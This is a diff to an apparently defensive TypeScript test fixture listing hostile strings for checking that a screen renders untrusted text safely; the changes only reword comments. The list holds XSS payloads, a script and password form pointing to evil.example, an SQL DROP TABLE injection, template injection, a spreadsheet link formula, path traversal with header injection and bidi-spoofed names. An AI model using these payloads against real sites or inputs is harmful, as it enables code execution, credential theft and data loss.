@@ -1,8 +1,8 @@
 const long = 'Wertpapier'.repeat(200);
 
-/** Texts that would run `ran()`, leave the page, ask for a password, or break the layout, if a screen took them for more than text. */
+/** Texts that call `ran()`, navigate, ask for a password or break the layout if a screen treats them as markup. */
 export const hostileStrings: readonly string[] = [
-  // Scripts, and other active content.
+  // Scripts and other active content.
   '<script>ran()</script>',
   '<ScRiPt>ran()</sCrIpT>',
   '<script src="https://evil.example/x.js"></script>',
@@ -59,7 +59,7 @@ export const hostileStrings: readonly string[] = [
   '<div style="animation:x 1ms" onanimationstart=ran()>uno</div>',
   '<div contenteditable autofocus onfocus=ran()>uno</div>',
   '<p popover id=p onbeforetoggle=ran()>uno</p><button popovertarget=p>dos</button>',
-  // Addresses that run or lead away.
+  // Addresses that run code or navigate.
   '<a href="javascript:ran()">uno</a>',
   '<a href="java\tscript:ran()">uno</a>',
   '<a href="&#106;avascript:ran()">uno</a>',
@@ -81,7 +81,7 @@ export const hostileStrings: readonly string[] = [
   '<object data="javascript:ran()"></object>',
   '<embed src="javascript:ran()">',
   '<portal src="https://evil.example"></portal>',
-  // What asks for a password, covers the page or takes its names.
+  // Password forms, overlays and clobbered names.
   '<form action="https://evil.example"><input name=password><button>Entrar</button></form>',
   '<button formaction="javascript:ran()">uno</button>',
   '<div style="position:fixed;inset:0;z-index:9999;background:red">Tu cuenta está bloqueada</div>',
@@ -90,7 +90,7 @@ export const hostileStrings: readonly string[] = [
   '<img name=getElementById><img id=app><form name=body>',
   '<p id=start-failed>App initialization failed</p>',
   '<dialog open>Ingresa tu contraseña</dialog>',
-  // Languages that a program may speak within a program.
+  // Template and query languages.
   '{{constructor.constructor("ran()")()}}',
   '${ran()}',
   '#{ran()} <%= ran() %> [[${ran()}]]',
@@ -99,7 +99,7 @@ export const hostileStrings: readonly string[] = [
   "'; DROP TABLE customers; --",
   '=HYPERLINK("https://evil.example","uno")',
   '../../../../etc/passwd\r\nSet-Cookie: token=x',
-  // Texts that are only hard to show.
+  // Texts that are hard to render.
   '\u202Etxt.exe\u202C \u2066uno\u2069',
   'Z\u0351\u036B\u0343\u036A\u0302a\u0322\u0321l\u0334\u0301g\u0328\u0309o\u035F'.repeat(20),
   '\u0000\u0007\u001B[31muno\u007F',
